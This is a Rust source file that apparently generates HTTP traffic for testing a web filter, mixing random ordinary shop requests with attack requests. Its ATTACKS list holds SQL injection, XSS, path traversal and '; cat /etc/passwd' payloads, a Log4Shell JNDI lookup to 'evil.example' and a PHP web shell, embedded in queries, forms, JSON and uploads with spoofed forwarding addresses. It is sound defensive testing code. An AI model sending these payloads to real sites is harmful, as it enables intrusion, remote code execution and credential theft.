//! Requests: ordinary ones that nobody has sent before, and attacks.

use std::fmt::Write;

/// Numbers that follow from a seed.
pub struct Random(u64);

impl Random {
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    pub fn below(&mut self, bound: usize) -> usize {
        (self.next() % bound.max(1) as u64) as usize
    }

    pub fn of<T: Copy>(&mut self, all: &[T]) -> T {
        all[self.below(all.len())]
    }
}

/// A request in parts.
#[derive(Clone, Debug)]
pub struct Request {
    pub kind: &'static str,
    pub method: &'static str,
    pub host: &'static str,
    pub target: String,
    pub marker: String,
    /// Further header fields, each with its line end.
    pub fields: String,
    pub content_type: &'static str,
    pub body: Vec<u8>,
    pub is_chunked: bool,
}

impl Request {
    pub fn get(kind: &'static str, marker: String, target: String) -> Self {
        Self {
            kind,
            method: "GET",
            host: "shop.test",
            target,
            marker,
            fields: "X-Forwarded-For: 192.0.2.77\r\n".to_owned(),
            content_type: "",
            body: Vec::new(),
            is_chunked: false,
        }
    }

    pub fn post(
        kind: &'static str,
        marker: String,
        content_type: &'static str,
        body: impl Into<Vec<u8>>,
    ) -> Self {
        let request = Self::get(kind, marker, "/account/note".to_owned());
        Self { method: "POST", content_type, body: body.into(), ..request }
    }

    pub fn at(self, host: &'static str) -> Self {
        Self { host, ..self }
    }

    /// The fields that go before the body, without those that frame it.
    pub fn fields(&self) -> String {
        let mut fields = self.fields.clone();
        if !self.content_type.is_empty() {
            let _ = write!(fields, "Content-Type: {}\r\n", self.content_type);
        }
        fields
    }

    pub fn head(&self) -> String {
        let mut head = format!(
            "{} {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {AGENT}\r\nAccept: text/html,*/*;q=0.8\r\n\
             Accept-Language: en\r\nCookie: session=0123456789abcdef\r\nX-Marker: {}\r\n{}",
            self.method,
            self.target,
            self.host,
            self.marker,
            self.fields()
        );
        match (self.is_chunked, self.method) {
            (true, _) => head.push_str("Transfer-Encoding: chunked\r\n"),
            (false, "POST") => {
                let _ = write!(head, "Content-Length: {}\r\n", self.body.len());
            }
            _ => {}
        }
        head + "\r\n"
    }

    pub fn bytes(&self) -> Vec<u8> {
        let mut bytes = self.head().into_bytes();
        match self.is_chunked {
            false => bytes.extend_from_slice(&self.body),
            true => {
                for chunk in self.body.chunks(3_000) {
                    bytes.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
                    bytes.extend_from_slice(chunk);
                    bytes.extend_from_slice(b"\r\n");
                }
                bytes.extend_from_slice(b"0\r\n\r\n");
            }
        }
        bytes
    }
}

pub const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

const WORDS: [&str; 16] = [
    "lighthouse",
    "harbour",
    "granite",
    "evening",
    "northern",
    "lantern",
    "keeper",
    "window",
    "garden",
    "letter",
    "morning",
    "bridge",
    "river",
    "mountain",
    "library",
    "orchard",
];

/// Some words, joined.
pub fn words(random: &mut Random, count: usize, between: &str) -> String {
    let words: Vec<&str> = (0..count).map(|_| random.of(&WORDS)).collect();
    words.join(between)
}

/// A target as shops have them.
pub fn target(random: &mut Random, marker: &str) -> String {
    format!(
        "/{}/{}?q={}&page={}&ref={marker}",
        words(random, 1, ""),
        random.below(9_000),
        words(random, 3, "+"),
        random.below(90)
    )
}

/// A form, a JSON document or an upload that nobody minds.
pub fn ordinary_body(kind: &'static str, marker: String, random: &mut Random) -> Request {
    let text = words(random, 30, " ");
    let mut request = match random.below(4) {
        0 => {
            let body = format!(
                "name={}&note={}&page={}",
                words(random, 2, "+"),
                text.replace(' ', "+"),
                random.below(90)
            );
            Request::post(kind, marker, "application/x-www-form-urlencoded", body)
        }
        1 => {
            let items: Vec<_> = (0..20)
                .map(|n| serde_json::json!({"id": n, "name": words(random, 2, " "), "price": random.below(999)}))
                .collect();
            let body = serde_json::json!({"note": text, "items": items}).to_string();
            Request::post(kind, marker, "application/json", body)
        }
        2 => {
            let length = random.below(200_000);
            let content: Vec<u8> = (0..length).map(|_| random.next() as u8 | 128).collect();
            upload(kind, marker, &text, "picture.jpg", "image/jpeg", &content)
        }
        _ => {
            let content = words(random, 2_000, " ");
            upload(kind, marker, &text, "notes.txt", "text/plain", content.as_bytes())
        }
    };
    request.is_chunked = random.below(3) == 0;
    request
}

fn upload(
    kind: &'static str,
    marker: String,
    note: &str,
    file: &str,
    media: &str,
    content: &[u8],
) -> Request {
    let mut body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{note}\r\n--{BOUNDARY}\r\n\
         Content-Disposition: form-data; name=\"file\"; filename=\"{file}\"\r\nContent-Type: {media}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    Request::post(kind, marker, "multipart/form-data; boundary=xSoakxBoundaryx", body)
}

const BOUNDARY: &str = "xSoakxBoundaryx";

/// What every ruleset knows at its lowest level.
const ATTACKS: [&str; 8] = [
    "1' UNION SELECT username, password FROM users-- -",
    "x' OR '1'='1' -- ",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../../../etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['cmd']); ?>",
];

/// An attack, in the place of an argument wherever there are some.
pub fn attack(kind: &'static str, marker: String, random: &mut Random) -> Request {
    let payload = random.of(&ATTACKS);
    let mut request = match random.below(5) {
        0 | 1 => {
            let target = format!("/search?page=2&q={}&ref={marker}", encoded(payload));
            Request::get(kind, marker, target)
        }
        2 => {
            let body = format!("name={}&note={}", words(random, 2, "+"), encoded(payload));
            Request::post(kind, marker, "application/x-www-form-urlencoded", body)
        }
        3 => {
            let body =
                serde_json::json!({"name": words(random, 2, " "), "inner": {"note": payload}}).to_string();
            Request::post(kind, marker, "application/json", body)
        }
        _ => upload(kind, marker, payload, "notes.txt", "text/plain", b"nothing"),
    };
    request.is_chunked = request.method == "POST" && random.below(3) == 0;
    // Nobody sends so many of them that he is banned: rules have to find each. And what is kept of addresses is full
    // before the warm-up is over.
    request.fields = format!("X-Forwarded-For: 198.18.{}.{}\r\n", random.below(16), random.below(256));
    request
}

fn encoded(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte.is_ascii_alphanumeric() {
            true => out.push(char::from(byte)),
            false => {
                let _ = write!(out, "%{byte:02X}");
            }
        }
    }
    out
}
